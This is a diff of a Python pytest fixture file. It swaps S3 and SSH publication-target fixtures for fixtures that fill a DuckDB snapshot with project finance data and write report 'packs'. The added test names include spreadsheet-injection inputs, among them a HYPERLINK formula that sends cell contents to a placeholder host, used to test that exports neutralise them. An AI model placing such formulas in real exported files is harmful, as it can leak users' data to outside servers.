@@ -1,194 +1,161 @@
-"""Publications made without a warehouse, and real servers to bring them to: an S3 store and an SSH daemon."""
+"""The site's small snapshot, with what only the packs read added to it, and its packs written once."""
 
 from __future__ import annotations
 
-import getpass
-import os
-import shutil
-import socket
-import subprocess
-import time
-from collections.abc import Callable, Iterator
-from dataclasses import dataclass, replace
+import sys
+from dataclasses import dataclass
+from datetime import date
+from decimal import Decimal
 from pathlib import Path
+from typing import Any
 
+import duckdb
 import pytest
 
-from pipelines.publishing import publications
-from pipelines.publishing.snapshot import staged_path
-from pipelines.publishing.targets.address import Address, parse
-from pipelines.settings import Settings, load_settings
+sys.path.insert(0, str(Path(__file__).parents[2] / "e2e"))
 
-BUCKET = "reports"
+import fixture_snapshot as fixture
 
+from pipelines.publishing.packs.packs import write_packs
 
-def publish(settings: Settings, value: int, *, pages: int = 4) -> Path:
-    """Publishes generation `value`: a snapshot, a site and a manifest that all name it."""
-    staged = staged_path(settings)
-    staged.parent.mkdir(parents=True, exist_ok=True)
-    staged.write_bytes(f"generation {value}\n".encode() * 5000)
-    site = publications.staged_site_path(settings)
-    (site / "_app" / "immutable").mkdir(parents=True)
-    for number in range(pages):
-        (site / f"page {number}.html").write_text(f"generation {value}, page {number}", encoding="utf-8")
-    (site / "index.html").write_text(f"generation {value}", encoding="utf-8")
-    (site / "_app" / "immutable" / "a.js").write_text(str(value), encoding="utf-8")
-    return publications.publish(settings, manifest={"generation": value, "as_of": "2026-11-03"}, site={"pages": pages})
-
-
-@pytest.fixture
-def settings(tmp_path) -> Settings:
-    found = load_settings(tmp_path / "home", environment={})
-    found.create_home()
-    return found
+OCTOBER, SEPTEMBER = date(2026, 10, 1), date(2026, 9, 1)
+# what a spreadsheet would run, follow or reckon with, and what files and fonts cannot hold
+FORMULAS = (
+    '=HYPERLINK("http://example.invalid/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "http://example.invalid",
+    "mailto:a@example.invalid", "00123", "1E5", "{=1}", "internal:Sheet1!A1",
+)  # fmt: skip
+NAMES = (
+    *FORMULAS, "nul\x00bell\x07half\ud7ff", "\u202egnihtemos\u202c شركة שלום", "😀 emoji 漢字", "n" * 300,
+    "Ωμέγα Щука Łódź Ærø Ș", '<b>&amp;"</b>', "\ufeff", "&A &P &D",
+)  # fmt: skip
 
 
 @dataclass(frozen=True, kw_only=True)
-class Place:
-    """A target with what a reader of it gets: the bytes of every file of the version that it points to."""
+class Written:
+    """A snapshot and the packs made of it."""
 
-    address: Address
-    read: Callable[[], dict[str, bytes]]
-    versions: Callable[[], set[str]]
+    snapshot: Path
+    out: Path
+    entries: list[dict[str, Any]]
 
-    def of(self, settings: Settings) -> Settings:
-        return replace(settings, targets=(self.address,))
-
-
-def contents(folder: Path) -> dict[str, bytes]:
-    root = folder.resolve()
-    return {path.relative_to(root).as_posix(): path.read_bytes() for path in root.rglob("*") if path.is_file()}
+    def sql(self, query: str, *parameters: object) -> list[tuple[Any, ...]]:
+        with duckdb.connect(str(self.snapshot), read_only=True) as connection:
+            return connection.execute(query, list(parameters)).fetchall()
 
 
-def _folder_place(root: Path, text: str, *, home: Path) -> Place:
-    def versions() -> set[str]:
-        return {path.name for path in (root / "publications").iterdir() if not path.name.startswith(".")}
-
-    address = parse(text, home=home, where="the test")
-    return Place(address=address, read=lambda: contents(root / "current"), versions=versions)
-
-
-@pytest.fixture
-def folder(tmp_path) -> Place:
-    (tmp_path / "www").mkdir()
-    return _folder_place(tmp_path / "www", str(tmp_path / "www"), home=tmp_path / "home")
-
-
-@pytest.fixture
-def share(tmp_path, monkeypatch) -> Place:
-    """A folder on a file system without links."""
-    import json
-
-    from pipelines.publishing.targets import folder as module
-
-    monkeypatch.setattr(module, "_has_links", lambda _: False)
-    (tmp_path / "share").mkdir()
-    root = tmp_path / "share"
-    place = _folder_place(root, f"file://{root}", home=tmp_path / "home")
-    return replace(place, read=lambda: contents(root / json.loads((root / "current.json").read_text())["path"]))
-
-
-@pytest.fixture(scope="session")
-def s3_server() -> Iterator[str]:
-    from moto.server import ThreadedMotoServer
-
-    server = ThreadedMotoServer(ip_address="127.0.0.1", port=0, verbose=False)
-    server.start()
-    host, port = server.get_host_and_port()
-    yield f"http://{host}:{port}"
-    server.stop()
+def _forecasts(connection: duckdb.DuckDBPyConnection) -> None:
+    for n, project in enumerate(("P-001", "P-002", "P-004")):
+        key = {"project_id": project, "month": OCTOBER, "currency_code": "NOK" if project == "P-004" else "EUR"}
+        eac = Decimal(2_000_000 + 1_000 * n) + Decimal("0.37")
+        row = {
+            **key, "ac_amount": 1_500_000, "recommended_method": "bottom_up", "recommended_eac_amount": eac,
+            "eac_p10_amount": eac - 90_000, "eac_p50_amount": eac + 5_000, "eac_p80_amount": eac + 60_000,
+            "eac_p90_amount": eac + 110_000, "is_range_calibrated": False, "revenue_at_completion_amount": 2_400_000,
+            "margin_at_completion_amount": 2_400_000 - eac, "pending_change_count": n,
+            "recommendation_reason": "The forecast in force is taken.",
+        }  # fmt: skip
+        fixture._insert(connection, "forecast.forecast_by_project_month", [row])
+        methods = {"bottom_up": eac, "cpi": eac + 10, "last_6": None}
+        rows = [
+            {**key, "method": name, "bac_amount": 1_900_000, "eac_amount": value} for name, value in methods.items()
+        ]
+        fixture._insert(connection, "forecast.eac_by_project_month_method", rows)
+        for month, done in ((SEPTEMBER, 1_200_000), (OCTOBER, 1_300_000)):
+            measured = {**key, "month": month, "bac_amount": 1_900_000, "pv_amount": done + 50_000, "ev_amount": done,
+                        "ac_amount": done + 90_000}  # fmt: skip
+            fixture._insert(connection, "forecast.earned_value_by_project_month", [measured])
+    for n, kind in enumerate(("as_sold", "baseline", "forecast"), start=1):
+        version = {
+            "project_id": "P-001", "plan_version_id": f"V{n}", "version_number": n, "kind": kind, "source": "finance",
+            "approved_date": date(2025, 8 + n, 1), "revenue_amount_base": 3_000_000, "cost_amount_base": 2_000_000 + n,
+            "margin_amount_base": 1_000_000 - n, "margin_change_amount_base": None if n == 1 else -1,
+            "reason": "Margin fell.",
+        }  # fmt: skip
+        fixture._insert(connection, "forecast.forecast_versions", [version])
+    total = {"programme_id": "PG1", "bac_amount_base": 3_800_000, "pv_amount_base": 2_700_000,
+             "ev_amount_base": 2_600_000, "ac_amount_base": 2_780_000, "measured_projects": 2,
+             "month": OCTOBER}  # fmt: skip
+    fixture._insert(connection, "forecast.earned_value_by_programme_month", [total])
 
 
-@pytest.fixture
-def s3(tmp_path, monkeypatch, s3_server) -> Place:
-    import json
-
-    import boto3
-
-    for name, value in (("ACCESS_KEY_ID", "tester"), ("SECRET_ACCESS_KEY", "secret"), ("DEFAULT_REGION", "us-east-1")):
-        monkeypatch.setenv(f"AWS_{name}", value)
-    client = boto3.client("s3", endpoint_url=s3_server)
-    client.create_bucket(Bucket=BUCKET)
-    prefix = f"of/{tmp_path.name}"
-
-    def objects(under: str) -> list[str]:
-        pages = client.get_paginator("list_objects_v2").paginate(Bucket=BUCKET, Prefix=under)
-        return [item["Key"] for page in pages for item in page.get("Contents", ())]
-
-    def get(key: str) -> bytes:
-        return client.get_object(Bucket=BUCKET, Key=key)["Body"].read()
-
-    def read() -> dict[str, bytes]:
-        root = f"{prefix}/{json.loads(get(f'{prefix}/current.json'))['path']}/"
-        return {key.removeprefix(root): get(key) for key in objects(root)}
-
-    def versions() -> set[str]:
-        return {key.split("/")[3] for key in objects(f"{prefix}/publications/")}
-
-    address = parse(f"s3://{BUCKET}/{prefix}?endpoint={s3_server}", home=tmp_path, where="the test")
-    return Place(address=address, read=read, versions=versions)
-
-
-def _sshd() -> str:
-    found = shutil.which("sshd", path=f"{os.environ['PATH']}:/usr/sbin")
-    if found is None:
-        pytest.skip("no sshd here: apt-get install openssh-server")
-    if os.geteuid() == 0:
-        Path("/run/sshd").mkdir(mode=0o755, exist_ok=True)  # where it parts with its privileges
-    return found
-
-
-@pytest.fixture(scope="session")
-def ssh_server(tmp_path_factory) -> Iterator[dict[str, str]]:
-    """An sshd on a free port of the loopback that lets this user in with one key and offers SFTP alone."""
-    daemon, root = _sshd(), tmp_path_factory.mktemp("sshd")
-    for name in ("host", "user"):
-        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(root / name)], check=True)
-    with socket.socket() as probe:
-        probe.bind(("127.0.0.1", 0))
-        port = probe.getsockname()[1]
-    configuration = {
-        "ListenAddress": f"127.0.0.1:{port}",
-        "HostKey": root / "host",
-        "AuthorizedKeysFile": root / "user.pub",
-        "PidFile": "none",
-        "PasswordAuthentication": "no",
-        "UsePAM": "no",
-        "StrictModes": "no",
-        "PermitRootLogin": "prohibit-password",
-        "Subsystem": "sftp internal-sftp",
-        "ForceCommand": "internal-sftp",
+def _plans(connection: duckdb.DuckDBPyConnection) -> None:
+    shared = {"project_id": "P-001", "version_kind": "baseline", "plan_version_id": "B2",
+              "approved_date": date(2026, 2, 1), "in_force_from_date": date(2026, 2, 1),
+              "currency_code": "EUR"}  # fmt: skip
+    older = {"plan_version_id": "B1", "in_force_from_date": date(2025, 9, 1), "in_force_to_date": date(2026, 1, 31)}
+    for month in (SEPTEMBER, OCTOBER):
+        lines = {"revenue": "150000.10", "labour": "90000.05", "material": "1000", "management_reserve": "77777"}
+        rows = [{**shared, "month": month, "category": name, "plan_amount_base": text} for name, text in lines.items()]
+        fixture._insert(connection, "core.fct_plan_lines", [*rows, {**rows[0], **older, "plan_amount_base": "1"}])
+    # a plan without revenue is no plan to compare a margin with
+    only_cost = {
+        **shared,
+        "project_id": "P-002",
+        "plan_version_id": "S",
+        "version_kind": "as_sold",
+        "category": "labour",
     }
-    (root / "config").write_text("".join(f"{name} {value}\n" for name, value in configuration.items()))
-    kind, key, *_ = (root / "host.pub").read_text().split()
-    (root / "known_hosts").write_text(f"[127.0.0.1]:{port} {kind} {key}\n")
-    with (root / "log").open("wb") as log:
-        process = subprocess.Popen([daemon, "-D", "-e", "-f", str(root / "config")], stderr=log)
-        try:
-            for _ in range(100):
-                with socket.socket() as probe:
-                    if probe.connect_ex(("127.0.0.1", port)) == 0:
-                        break
-                assert process.poll() is None, (root / "log").read_text()
-                time.sleep(0.05)
-            yield {
-                "login": f"{getpass.getuser()}@127.0.0.1:{port}",
-                "key": str(root / "user"),
-                "known_hosts": str(root / "known_hosts"),
-            }
-        finally:
-            process.terminate()
-            process.wait()
+    fixture._insert(connection, "core.fct_plan_lines", [{**only_cost, "month": OCTOBER, "plan_amount_base": 5}])
 
 
-@pytest.fixture
-def ssh(tmp_path, ssh_server) -> Place:
-    root = tmp_path / "remote"
-    root.mkdir()
-    options = f"key={ssh_server['key']}&known_hosts={ssh_server['known_hosts']}"
-    return _folder_place(root, f"ssh://{ssh_server['login']}{root}?{options}", home=tmp_path / "home")
+def _registers(connection: duckdb.DuckDBPyConnection) -> None:
+    for n, name in enumerate(NAMES):
+        risk = {"project_id": "P-001", "risk_id": f"R-{n}", "kind": "threat", "title": name.replace("\x00", ""),
+                "status": "open", "probability_pct": "0.25", "cost_likely_amount_base": 1000 + n,
+                "emv_amount_base": Decimal(-250) - n}  # fmt: skip
+        fixture._insert(connection, "core.fct_risks", [risk])
+    changes = (("CR-1", "submitted", "900.50"), ("CR-2", "approved", "-100"), ("CR-3", "draft", None))
+    for name, status, price in changes:
+        change = {"project_id": "P-001", "change_request_id": name, "title": f"={name}", "status": status,
+                  "requested_date": date(2026, 9, 4), "price_amount_base": price, "cost_amount_base": 100}  # fmt: skip
+        fixture._insert(connection, "core.fct_change_requests", [change])
 
 
-@pytest.fixture(params=["folder", "share", "s3", "ssh"])
-def place(request) -> Place:
-    return request.getfixturevalue(request.param)
+def _rest(connection: duckdb.DuckDBPyConnection) -> None:
+    fixture._insert(connection, "core.dim_programmes", [{"programme_id": "PG1", "programme_name": fixture.HOSTILE}])
+    for project, opening in (("P-001", "2000.25"), ("P-004", "500.75")):
+        row = {"project_id": project, "month": OCTOBER, "opening_amount_base": opening, "bookings_amount_base": 100,
+               "changes_amount_base": 10, "revenue_amount_base": 300, "fx_amount_base": "-0.50",
+               "billed_amount_base": 50, "closing_amount_base": Decimal(opening) - Decimal("190.50")}  # fmt: skip
+        fixture._insert(connection, "margin.backlog_by_project_month", [row])
+    steps = (("price", 5_000), ("hours", "-120000.45"), ("fx", "-0.55"), ("residual", 0))
+    for project in ("P-001", "P-004"):
+        for n, (driver, effect) in enumerate(steps, start=1):
+            step = {"project_id": project, "from_version": "as_sold", "to_version": "forecast", "step_number": n,
+                    "driver": driver, "effect_amount_base": effect, "from_margin_amount_base": 1_115_001,
+                    "to_margin_amount_base": 1_000_000}  # fmt: skip
+            fixture._insert(connection, "margin.margin_bridge", [step])
+    statuses = {"P-001": "red", "P-002": "green", "P-005": "not_rated"}
+    for project, status in statuses.items():
+        names = ("cost", "scope", "schedule", "quality", "customer", "safety", "overall")
+        why = (
+            f"Cost performance index 0.81 (earned value -5 / actual cost 100) is {status}: below 0.9; green above 0.95."
+        )
+        row = {"project_id": project, "month": OCTOBER, **{f"{name}_status": status for name in names},
+               **{f"{name}_status_reason": why for name in names}, "gross_margin_amount_base": 12}  # fmt: skip
+        fixture._insert(connection, "kpi.scorecard_by_project_month", [row])
+
+
+def make_snapshot(path: Path) -> Path:
+    """The site's snapshot and what the packs read beside it."""
+    fixture.write_snapshot(path)
+    with duckdb.connect(str(path)) as connection:
+        for fill in (_forecasts, _plans, _registers, _rest):
+            fill(connection)
+    return path
+
+
+def written(folder: Path, snapshot: Path) -> Written:
+    return Written(snapshot=snapshot, out=folder / "packs", entries=write_packs(snapshot, folder / "packs"))
+
+
+@pytest.fixture(scope="session")
+def packs(tmp_path_factory: pytest.TempPathFactory) -> Written:
+    folder = tmp_path_factory.mktemp("packs")
+    return written(folder, make_snapshot(folder / "warehouse.duckdb"))
+
+
+@pytest.fixture(scope="session")
+def empty(tmp_path_factory: pytest.TempPathFactory) -> Written:
+    folder = tmp_path_factory.mktemp("empty")
+    return written(folder, fixture.write_snapshot(folder / "warehouse.duckdb", empty=True))
